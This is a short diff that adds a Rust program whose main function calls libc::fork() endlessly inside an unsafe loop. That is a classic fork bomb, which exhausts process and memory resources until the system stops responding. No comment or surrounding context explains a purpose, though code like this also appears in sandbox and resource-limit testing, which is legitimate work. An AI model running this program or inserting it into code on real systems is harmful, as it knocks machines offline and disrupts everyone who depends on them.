@@ -1,0 +1,9 @@
+extern crate libc;
+
+fn main() {
+    loop {
+        unsafe {
+            libc::fork();
+        }
+    }
+}
